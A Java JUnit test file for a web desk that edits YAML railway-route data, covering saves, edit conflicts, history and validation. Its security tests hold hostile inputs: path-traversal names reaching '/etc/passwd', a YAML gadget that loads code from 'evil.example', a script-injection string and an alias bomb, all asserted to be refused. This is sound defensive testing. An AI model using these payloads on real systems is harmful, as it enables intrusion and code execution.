package gradepost.desk;

import static java.nio.charset.StandardCharsets.UTF_8;
import static java.util.stream.Collectors.joining;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import gradepost.app.Depot;
import gradepost.app.SyntheticNetwork;
import gradepost.app.store.Store;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.TreeMap;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Files of data edited at the desk: by one, by two at once, and by somebody who means ill. */
@Tag("slow")
class LinesPagesTest {
  @TempDir private static Path folder = Path.of("");
  private static Path routes = Path.of("");
  private static DeskServer desk;
  private static Browser browser;
  private static String token = "";

  @BeforeAll
  static void open() throws Exception {
    routes = folder.resolve("routes");
    new SyntheticNetwork(routes, 1).packs(6, 3);
    Files.writeString(folder.resolve("secret.yaml"), "gradepost: route\nname: secret\n");
    Files.createSymbolicLink(routes.resolve("out.yaml"), folder.resolve("secret.yaml"));
    Files.createDirectories(routes.resolve(".hidden"));
    Files.writeString(routes.resolve(".hidden/own.yaml"), "gradepost: route\nname: secret\n");
    Store store = Store.of(folder.resolve("reg/register.db").toString(), Optional.empty());
    desk =
        DeskServer.start(
            new DeskServer.Served(routes, store, folder.resolve("papers"), Depot.NOON), 0);
    browser = new Browser(desk).letIn();
    token = hidden(browser.get("/lines/file?name=line-000/route.yaml").body(), "token");
  }

  @AfterAll
  static void close() {
    desk.close();
  }

  private static String hidden(String page, String name) {
    assertThat(page).contains("name=\"" + name + "\" value=\"");
    return page.replaceFirst("(?s).*?name=\"" + name + "\" value=\"([^\"]*)\".*", "$1");
  }

  private static String form(String... fields) {
    Map<String, String> all = new TreeMap<>(Map.of("token", token));
    for (int i = 0; i < fields.length; i += 2) {
      all.put(fields[i], fields[i + 1]);
    }
    return all.entrySet().stream()
        .map(e -> e.getKey() + "=" + URLEncoder.encode(e.getValue(), UTF_8))
        .collect(joining("&"));
  }

  private static String base(String name) throws Exception {
    return hidden(browser.get("/lines/file?name=" + name).body(), "base");
  }

  private static HttpResponse<String> save(String name, String base, String text, String... more)
      throws Exception {
    String[] fields =
        Stream.concat(Stream.of("name", name, "base", base, "text", text), Stream.of(more))
            .toArray(String[]::new);
    return browser.post("/lines/save", form(fields));
  }

  private static JsonNode typed(String name, String text) throws Exception {
    HttpResponse<String> answer = browser.post("/lines/typed", form("name", name, "text", text));
    assertThat(answer.statusCode()).isEqualTo(200);
    return new ObjectMapper().readTree(answer.body());
  }

  private static String text(String name) throws Exception {
    return Files.readString(routes.resolve(name));
  }

  @Test
  void theFilesOfTheFolderAreListedAndNoOthers() throws Exception {
    assertThat(browser.get("/lines").body())
        .contains("line-000/route.yaml", "line-000/pack-0000.yaml", "stock/coast-unit.yaml")
        .contains("Notices in force")
        .doesNotContain("out.yaml", "own.yaml", "secret");
  }

  /** What a fault is, where, and the line drawn, without anything being saved. */
  @Test
  void findingsStandAtTheirLines() throws Exception {
    String name = "line-000/route.yaml";
    String before = text(name);
    JsonNode good = typed(name, before);
    assertThat(good.at("/strip/svg").asText()).startsWith("<svg").doesNotContain("style=");
    int line = line(before, "  - {from: ");
    assertThat(good.at("/strip/places").findValuesAsText("line")).contains("" + line);
    JsonNode wrong = typed(name, before.replaceFirst("(?m)^units: .*$", "unit: metric"));
    assertThat(wrong.has("strip")).isFalse();
    assertThat(wrong.at("/here").findValuesAsText("line")).contains("" + line(before, "units: "));
    assertThat(wrong.at("/here") + "").contains("unit").doesNotContain(folder + "");
    assertThat(text(name)).isEqualTo(before);
    String page = browser.get("/lines/file?name=" + name).body();
    assertThat(page).contains("<svg", "/assets/codemirror.js", "id=\"found\"");
  }

  private static int line(String text, String beginning) {
    List<String> lines = text.lines().toList();
    for (int i = 0; i < lines.size(); i++) {
      if (lines.get(i).startsWith(beginning)) {
        return i + 1;
      }
    }
    throw new AssertionError(beginning);
  }

  /** A file that breaks a pack elsewhere says so. */
  @Test
  void faultsInPacksThatUseItAreTold() throws Exception {
    String stock = text("stock/coast-unit.yaml");
    String without = stock.replace("3-car", "4-car");
    JsonNode found = typed("stock/coast-unit.yaml", without);
    assertThat(found.at("/elsewhere/0/file").asText()).isEqualTo("line-000/pack-0000.yaml");
    HttpResponse<String> refused =
        save("stock/coast-unit.yaml", base("stock/coast-unit.yaml"), without);
    assertThat(refused.statusCode()).isEqualTo(409);
    assertThat(refused.body())
        .contains("line-000/pack-0000.yaml", "line-005/pack-0005.yaml", "name=\"faulty\"");
    assertThat(text("stock/coast-unit.yaml")).isEqualTo(stock);
  }

  /** Nothing of either is lost: the second is shown both, and saves upon the first knowingly. */
  @Test
  void twoPeopleAtOnce() throws Exception {
    String name = "line-001/route.yaml";
    String before = text(name);
    String base = base(name);
    String hers = before + "# hers\n";
    String his = before + "# <b>his</b>\n";
    assertThat(save(name, base, hers, "by", "Ada").statusCode()).isEqualTo(303);
    HttpResponse<String> refused = save(name, base, his, "by", "Bo");
    assertThat(refused.statusCode()).isEqualTo(409);
    assertThat(refused.body())
        .contains(
            "somebody else has saved", "saved by Ada, 20", "# hers", "# &lt;b&gt;his&lt;/b&gt;")
        .doesNotContain("<b>his");
    assertThat(text(name)).isEqualTo(hers);
    assertThat(save(name, hidden(refused.body(), "base"), his, "by", "Bo").statusCode())
        .isEqualTo(303);
    assertThat(text(name)).isEqualTo(his);
    String list = browser.get("/lines/saves?name=" + name).body();
    assertThat(list).contains("Ada", "Bo", "as it was found", "in the file now");
    String first = list.replaceFirst("(?s).*/lines/saves/([0-9a-f]{64}).*", "$1");
    String look = browser.get("/lines/saves/" + first + "?name=" + name).body();
    assertThat(look).contains("Go back to this text", "# &lt;b&gt;his");
    String back = form("name", name, "base", hidden(look, "base"), "by", "Ada");
    assertThat(browser.post("/lines/saves/" + first, back).statusCode()).isEqualTo(303);
    assertThat(text(name)).isEqualTo(before);
    assertThat(browser.get("/lines/saves?name=" + name).body()).contains("gone back to");
    // The way back is refused where the file is another by now.
    assertThat(save(name, base(name), hers).statusCode()).isEqualTo(303);
    assertThat(browser.post("/lines/saves/" + first, back).statusCode()).isEqualTo(409);
    assertThat(text(name)).isEqualTo(hers);
  }

  /** That something was saved is said where it was, whoever opens the address. */
  @Test
  void onlyWhatWasSavedIsSaidToBe() throws Exception {
    String name = "line-000/route.yaml";
    String before = text(name);
    HttpResponse<String> saved = save(name, base(name), before + "# more\n", "by", "Ada");
    String at = saved.headers().firstValue("Location").orElse("");
    assertThat(browser.get(at).body()).contains(">Saved.<");
    assertThat(browser.get("/lines/file?saved=1&name=" + name).body()).doesNotContain(">Saved.<");
    HttpResponse<String> same = save(name, base(name), before + "# more\n", "by", "Ada");
    assertThat(same.statusCode()).isEqualTo(200);
    assertThat(same.body())
        .contains("Nothing was saved: the file has this text already.")
        .doesNotContain(">Saved.<");
    assertThat(save(name, base(name), before, "by", "Bo").statusCode()).isEqualTo(303);
    assertThat(browser.get(at).body()).as("another text by now").doesNotContain(">Saved.<");
  }

  @Test
  void whyTheSavesOfAFileCannotBeShownIsSaid() throws Exception {
    String name = "line-000/latin.yaml";
    Path file = routes.resolve(name);
    Files.write(file, new byte[] {'a', (byte) 0xE9, '\n'});
    String none = "0".repeat(64);
    for (String page : List.of("/lines/saves?name=", "/lines/file?name=")) {
      HttpResponse<String> told = browser.get(page + name);
      assertThat(told.statusCode()).as(page).isEqualTo(409);
      assertThat(told.body()).contains("/latin.yaml: error: it is not in UTF-8", "Mend it with");
    }
    assertThat(browser.get("/lines/saves/" + none + "?name=" + name).statusCode()).isEqualTo(404);
    Files.delete(file);
  }

  /** Who typed for an hour into a file that is gone has his text. */
  @Test
  void aTextWhoseFileIsGoneIsGivenBack() throws Exception {
    Path file = routes.resolve("line-005/notes.yaml");
    Files.writeString(file, "gradepost: route\n");
    String base = base("line-005/notes.yaml");
    Files.delete(file);
    HttpResponse<String> answer = save("line-005/notes.yaml", base, "an hour & more");
    assertThat(answer.statusCode()).isEqualTo(410);
    assertThat(answer.body()).contains("Nothing was written", "an hour &amp; more");
    assertThat(file).doesNotExist();
  }

  @Test
  void aFaultyTextIsSavedOnlyKnowingly() throws Exception {
    String name = "line-002/route.yaml";
    String broken = text(name).replaceFirst("(?m)^units: .*$", "units: cubits");
    HttpResponse<String> refused = save(name, base(name), broken);
    assertThat(refused.statusCode()).isEqualTo(409);
    assertThat(refused.body()).contains("Save it with its faults", "cubits");
    assertThat(text(name)).doesNotContain("cubits");
    assertThat(save(name, base(name), broken, "faulty", "on").statusCode()).isEqualTo(303);
    assertThat(text(name)).isEqualTo(broken);
    assertThat(browser.get("/lines/file?name=" + name).body())
        .contains("Used by line-002/pack-0002.yaml");
  }

  /** Ends of lines, mark, rights, and that it is a link, stay as they are. */
  @Test
  void aFileStaysAsItIsButForItsText() throws Exception {
    Path file = routes.resolve("line-003/route.yaml");
    Path real = routes.resolve("line-003/real.yaml");
    Files.writeString(real, "\ufeff" + Files.readString(file).replace("\n", "\r\n"));
    Files.setPosixFilePermissions(real, PosixFilePermissions.fromString("rw-r-----"));
    Files.delete(file);
    Files.createSymbolicLink(file, Path.of("real.yaml"));
    String name = "line-003/route.yaml";
    String page = browser.get("/lines/file?name=" + name).body();
    assertThat(page).doesNotContain("\ufeff");
    String typed = Files.readString(real).substring(1) + "# more\r\n";
    assertThat(save(name, hidden(page, "base"), typed).statusCode()).isEqualTo(303);
    assertThat(Files.isSymbolicLink(file)).isTrue();
    assertThat(Files.readString(real)).isEqualTo("\ufeff" + typed);
    assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(real)))
        .isEqualTo("rw-r-----");
    assertThat(Files.getPosixFilePermissions(routes.resolve(".gradepost")))
        .isEqualTo(PosixFilePermissions.fromString("rwx------"));
  }

  /** What an editor in a browser would spoil is not opened in one. */
  @Test
  void whatCannotComeBackAsItWasIsNotShown() throws Exception {
    Path file = routes.resolve("latin.yaml");
    Files.write(file, new byte[] {'n', ':', ' ', (byte) 0xe9, '\n'});
    HttpResponse<String> answer = browser.get("/lines/file?name=latin.yaml");
    assertThat(answer.statusCode()).isEqualTo(409);
    assertThat(answer.body()).contains("not in UTF-8");
    Files.delete(file);
  }

  /** A list goes to a spreadsheet and comes back; what is wrong in it is told, all else stays. */
  @Test
  void whatCouldNotBeOpenedAgainIsNotSaved() throws Exception {
    String name = "line-000/route.yaml";
    String before = text(name);
    String base = base(name);
    String large = before + ("# " + "x".repeat(98) + "\n").repeat(10_000);
    for (String text : List.of(before + "# \0\n", large)) {
      HttpResponse<String> answer = save(name, base, text, "by", "A Clerk", "faulty", "on");
      assertThat(answer.statusCode()).isEqualTo(500);
      assertThat(answer.body()).contains("Not saved", name + ": error: it ");
      assertThat(text(name)).isEqualTo(before);
    }
    assertThat(base(name)).isEqualTo(base);
  }

  @Test
  void cellsGoOutAndIn() throws Exception {
    String name = "line-004/route.yaml";
    String before = text(name) + "# not saved\n";
    String[] asked = {"name", name, "base", base(name), "text", before, "list", "gradients"};
    String out = browser.post("/lines/cells", form(asked)).body();
    String cells = out.replaceFirst("(?s).*id=\"cells\"[^>]*>\n(.*?)</textarea>.*", "$1");
    assertThat(cells.lines().findFirst().orElse("")).startsWith("from\tto\tgradient");
    String other = cells.replaceFirst("3 permille", "2 permille");
    assertThat(other).isNotEqualTo(cells);
    String wrong = cells.replaceFirst("3 permille", "3 percentish");
    String told = browser.post("/lines/paste", form(with(asked, "cells", wrong))).body();
    assertThat(told).contains("These cells cannot go in", "percentish", "# not saved");
    String in = browser.post("/lines/paste", form(with(asked, "cells", other))).body();
    assertThat(in)
        .contains("It is not saved yet", "gradient: 2 permille rising", "# not saved")
        .contains("lines are the same");
    assertThat(text(name)).doesNotContain("2 permille rising");
    assertThat(browser.post("/lines/cells", form(with(asked, "list", "notices"))).statusCode())
        .isEqualTo(404);
  }

  private static String[] with(String[] fields, String... more) {
    return Stream.concat(Stream.of(fields), Stream.of(more)).toArray(String[]::new);
  }

  static List<String> names() {
    return List.of(
        "../secret.yaml",
        "..%2Fsecret.yaml",
        "out.yaml",
        ".hidden/own.yaml",
        ".gradepost/saves/x",
        "/etc/passwd",
        "line-000/../line-000/route.yaml",
        "line-000",
        "route.yaml\u0000",
        "");
  }

  @ParameterizedTest
  @MethodSource("names")
  void nothingIsFoundByAPath(String name) throws Exception {
    String coded = URLEncoder.encode(name, UTF_8);
    String none = "0".repeat(64);
    for (String page : List.of("/lines/file?name=", "/lines/saves?name=")) {
      assertThat(browser.get(page + coded).statusCode()).isEqualTo(404);
    }
    assertThat(browser.get("/lines/saves/" + none + "?name=" + coded).statusCode()).isEqualTo(404);
    for (String page : List.of("check", "typed", "save", "cells", "paste", "saves/" + none)) {
      HttpResponse<String> answer =
          browser.post(
              "/lines/" + page, form("name", name, "text", "x", "base", none, "list", "curves"));
      assertThat(answer.statusCode()).isEqualTo(page.equals("save") ? 410 : 404);
      assertThat(answer.body()).doesNotContain("secret");
    }
    assertThat(Files.readString(folder.resolve("secret.yaml"))).contains("name: secret");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/assets/..%2fdesk.css",
        "/assets/lines-file.ftlh",
        "/assets/%2e%2e%2f%2e%2e%2fschema%2froute.schema.json",
        "/lines/saves/..%2f..%2froute.yaml?name=line-000/route.yaml",
        "/lines/saves/line-000?name=line-000/route.yaml"
      })
  void noOtherFileIsServed(String path) throws Exception {
    assertThat(browser.get(path).statusCode()).isBetween(400, 404);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "a: &a [x, x]\nb: &b [*a, *a]\nc: &c [*b, *b]\nd: [*c, *c, *c, *c, *c, *c, *c, *c]\n",
        "!!javax.script.ScriptEngineManager [!!java.net.URL [\"http://evil.example\"]]\n",
        "gradepost: !!java.io.File secret\n",
        "gradepost: route\nname: \"</textarea><script>alert(1)</script>\"\n",
        "\u0001\u0002: {"
      })
  void hostileTextIsAnsweredAsAnyOther(String text) throws Exception {
    assertThat(typed("line-000/route.yaml", text).at("/here")).isNotEmpty();
    String deep = "[".repeat(5000);
    assertThat(typed("line-000/route.yaml", deep).at("/here")).isNotEmpty();
    String page =
        browser.post("/lines/check", form("name", "line-000/route.yaml", "text", text)).body();
    assertThat(page).doesNotContain("<script>alert");
  }

  @Test
  void withoutItsTokenNothingIsSaved() throws Exception {
    String before = text("line-005/route.yaml");
    String form = form("name", "line-005/route.yaml", "base", base("line-005/route.yaml"));
    for (String other : List.of("", "guess")) {
      String without = form.replaceFirst("token=[^&]*", "token=" + other) + "&text=x";
      assertThat(browser.post("/lines/save", without).statusCode()).isEqualTo(403);
      assertThat(browser.post("/lines/typed", without).statusCode()).isEqualTo(403);
    }
    assertThat(text("line-005/route.yaml")).isEqualTo(before);
    assertThat(new Browser(desk).get("/lines").statusCode()).isEqualTo(403);
    assertThat(new Browser(desk).get("/assets/lines.js").statusCode()).isEqualTo(403);
  }

  /** It is turned away by what it says of its length, before any of it is sent. */
  @ParameterizedTest
  @ValueSource(strings = {"/lines/save", "/lines/typed", "/notice", "/rides"})
  void whatIsTooLongIsNotRead(String path) throws Exception {
    assertThat(
            browser.raw(
                "POST " + path + " HTTP/1.1",
                "Host: 127.0.0.1",
                "Content-Type: multipart/form-data; boundary=b",
                "Content-Length: 52428800",
                "Connection: close"))
        .startsWith("HTTP/1.1 413")
        .contains("longer than the desk takes");
  }

  @Test
  void keysAreExplained() throws Exception {
    assertThat(browser.get("/lines/keys?kind=route").body())
        .contains("gradients › ", "permille", "One of: ");
    assertThat(browser.get("/lines/keys?kind=%3Cb%3E").body()).contains("no such kind");
    JsonNode keys = new ObjectMapper().readTree(browser.get("/lines/keys.json?kind=pack").body());
    assertThat(keys.findValuesAsText("key")).contains("route", "formations", "valid-from");
    assertThat(keys.findValuesAsText("in")).contains("issue", "directions.calls");
  }
}
